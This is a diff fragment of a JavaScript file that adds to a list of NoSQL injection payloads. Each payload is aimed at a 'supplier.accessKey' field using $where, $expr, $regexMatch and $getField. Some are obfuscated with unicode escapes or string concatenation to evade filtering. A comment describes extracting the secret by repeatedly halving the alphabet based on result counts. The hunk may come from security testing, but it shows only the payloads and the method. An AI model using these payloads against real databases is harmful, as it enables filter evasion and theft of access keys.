@@ -35,6 +35,11 @@ const forms = [
   '{"supplier.accessKey": {"$not": {"$lt": "m"}}}',
   '{"\\u0073upplier.accessKe\\u0079": {"\\u0024gte": "m"}}',
   '{"category": {"$ne": "x"}, "supplier.accessKey": {"$gt": "m"}}',
+  '{"$where": "/^[a-m]/.test(this.supplier.accessKey)"}',
+  '{"$where": "return this[\'supp\' + \'lier\'].accessKey < \'m\'"}',
+  '{"$expr": {"$lt": ["$supplier.accessKey", "m"]}}',
+  '{"$expr": {"$regexMatch": {"input": "$supplier.accessKey", "regex": "^[a-m]"}}}',
+  '{"$expr": {"$lt": [{"$getField": {"$concat": ["supp", "lier.accessKey"]}}, "m"]}}',
 ]
 
 /** The number of results says in which half of the alphabet the secret begins. Halving again and again finds all of it. */
